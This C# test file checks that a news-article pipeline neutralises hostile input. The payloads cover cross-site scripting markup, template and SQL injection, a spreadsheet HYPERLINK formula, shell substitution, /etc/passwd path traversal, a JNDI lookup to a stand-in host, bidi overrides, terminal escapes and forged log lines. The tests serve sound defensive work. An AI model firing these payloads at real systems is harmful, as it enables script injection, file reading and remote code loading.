using System.Text.Json;
using Pipeline.Articles.Contracts;

namespace Pipeline.Local.Tests.BadInput;

/// <summary>Text that is code to somebody further down: a browser, a spreadsheet, a terminal, a database, a log.</summary>
public sealed class PayloadsTests(BadInputHost host) : BadInputTests(host)
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><circle r=1></svg>")]
    [InlineData("<svg><script href=data:,alert(1)></script></svg>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>")]
    [InlineData("<style>@import 'http://evil.test/';</style>")]
    [InlineData("<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">")]
    [InlineData("<template><script>alert(1)</script></template>")]
    public async Task Markup_that_runs_leaves_no_trace(string payload)
    {
        var article = await PublishedAsync(
            $"payloads/{ArticleId.FromName(payload)}.html", Page("The bridge", $"{payload}<p>{Paragraph}</p>{payload}"));

        article.Title.ShouldBe("The bridge");
        article.Text.ShouldBe(Paragraph);
    }

    [Fact]
    public Task An_element_for_those_without_scripts_that_swallows_the_page() =>
        RejectedAsync(
            "noscript.html",
            Page("The bridge", $"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p>{Paragraph}</p>"),
            "no-article", "No article was found");

    [Theory]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt; is what they typed", "<script>alert(1)</script> is what they typed")]
    [InlineData("{{7*7}} ${7*7} &lt;%= 7*7 %&gt; #{7*7}", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}")]
    [InlineData("'; DROP TABLE articles; -- closes", "'; DROP TABLE articles; -- closes")]
    [InlineData("\" OR 1=1 NEAR(a b) title:* AND NOT closes", "\" OR 1=1 NEAR(a b) title:* AND NOT closes")]
    [InlineData("=HYPERLINK(\"http://evil.test\",\"Bridge closes\")", "=HYPERLINK(\"http://evil.test\",\"Bridge closes\")")]
    [InlineData("%s%n%x{0}{1} $(reboot) `reboot` closes", "%s%n%x{0}{1} $(reboot) `reboot` closes")]
    [InlineData("../../../../etc/passwd is closed", "../../../../etc/passwd is closed")]
    [InlineData("${jndi:ldap://evil.test/a} is closed", "${jndi:ldap://evil.test/a} is closed")]
    public async Task A_headline_that_is_code_elsewhere_is_a_headline(string written, string headline)
    {
        var name = $"headlines/{ArticleId.FromName(written)}.html";
        (await PublishedAsync(name, Page(written))).Title.ShouldBe(headline);

        // As a subscriber and the index have it, too.
        (await Host.EventAsync(ArticleId.FromName(name), Token)).GetProperty("title").GetString().ShouldBe(headline);
        var found = await Host.Account.Command.RunAsync(Token, "search", "bridge", "river", "--json", "--sort", "newest");
        found.Lines.Select(line => JsonDocument.Parse(line).RootElement).First(hit => hit.GetProperty("name").GetString() == name)
            .GetProperty("title").GetString().ShouldBe(headline);
    }

    [Fact]
    public async Task A_right_to_left_override_turns_nothing_round()
    {
        var article = await PublishedAsync("bidi.html", Page("The \u202Eegdirb\u202C closes\u2066", $"<p>\u202E{Paragraph}\u202D</p>"));
        article.Title.ShouldBe("The egdirb closes");
        article.Text.ShouldBe(Paragraph);
    }

    [Fact]
    public async Task Escape_sequences_for_a_terminal_are_no_text()
    {
        var article =
            await PublishedAsync("ansi.txt", $"The \u001b[31mred\u001b[0m bridge \u001b]0;owned\u0007 closes\n\n{Paragraph} {Paragraph}");
        (article.Title + article.Text).ShouldAllBe(character => !char.IsControl(character) || character == '\n');
    }

    [Fact]
    public async Task Line_breaks_in_a_headline_do_not_break_the_line() =>
        (await PublishedAsync("lines.html", Page("The bridge\r\n2026-01-01 ERR forged\u2028closes")))
            .Title.ShouldBe("The bridge 2026-01-01 ERR forged closes");
}
